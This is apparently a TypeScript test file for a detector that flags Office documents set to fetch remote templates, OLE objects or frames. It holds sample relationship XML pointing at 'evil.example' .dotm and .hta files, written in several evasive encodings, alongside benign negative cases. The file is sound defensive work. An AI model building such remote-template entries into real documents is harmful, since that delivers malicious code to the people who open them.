import { describe, expect, test } from 'vitest';
import { officeTrouble } from './office.ts';
import { zipStored } from './zip.ts';

const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const within = (xml: string | Uint8Array, name = 'word/_rels/settings.xml.rels') =>
  officeTrouble(zipStored([{ name, bytes: typeof xml === 'string' ? new TextEncoder().encode(xml) : xml }]));
const link = (attributes: string) =>
  `<?xml version="1.0"?><Relationships><Relationship ${attributes}/></Relationships>`;
const utf16 = (text: string, bigEndian: boolean): Uint8Array => {
  const bytes = Buffer.from(`\uFEFF${text}`, 'utf16le');
  return bigEndian ? bytes.swap16() : bytes;
};

describe('a document that fetches a program from elsewhere', () => {
  const TEMPLATE = `Type="${REL}/attachedTemplate"`;
  const AWAY = 'TargetMode="External"';

  test.each([
    ['as Word writes it', link(`Id="r" ${TEMPLATE} Target="https://evil.example/x.dotm" ${AWAY}`)],
    ['the other way round', link(`${AWAY} Target="https://evil.example/x.dotm" ${TEMPLATE}`)],
    ['over several lines', link(`\n${AWAY}\n${TEMPLATE}\n`)],
    ['with blanks and other quotes', link(`TargetMode = 'External' ${TEMPLATE.replaceAll('"', "'")}`)],
    ['with letters as numbers', link(`${TEMPLATE.replace('T', '&#84;').replace('Template', '&#x54;emplate')} ${AWAY}`)],
    ['an object', link(`Type="${REL}/oleObject" Target="https://evil.example/x.hta" ${AWAY}`)],
    ['a frame', link(`Type="${REL}/frame" Target="https://evil.example/" ${AWAY}`)],
    ['in wide letters', utf16(link(`${TEMPLATE} ${AWAY}`), false)],
    ['in wide letters, the other way', utf16(link(`${TEMPLATE} ${AWAY}`), true)],
  ])('is found: %s', async (_how, xml) => {
    expect(await within(xml)).toBe('macros');
    expect(await within(xml, 'WORD/_RELS/SETTINGS.XML.RELS')).toBe('macros');
  });

  test.each([
    ['its own template', link(TEMPLATE)],
    ['a link to a page', link(`Type="${REL}/hyperlink" Target="https://example.az/" ${AWAY}`)],
    ['a linked picture', link(`Type="${REL}/image" Target="https://example.az/a.png" ${AWAY}`)],
    ['another workbook', link(`Type="${REL}/externalLinkPath" Target="file:///C:/a.xlsx" ${AWAY}`)],
    ['a template beside a link', link(`${TEMPLATE}/><Relationship Type="${REL}/hyperlink" ${AWAY}`)],
  ])('is not: %s', async (_what, xml) => {
    expect(await within(xml)).toBeNull();
  });

  test('brackets without end cost no more than their length', async () => {
    expect(await within(`${'<'.repeat(3_000_000)}/attachedTemplate`)).toBeNull();
    expect(await within('<a '.repeat(1_000_000))).toBeNull();
    expect(await within('&#'.repeat(1_000_000))).toBeNull();
  });
});
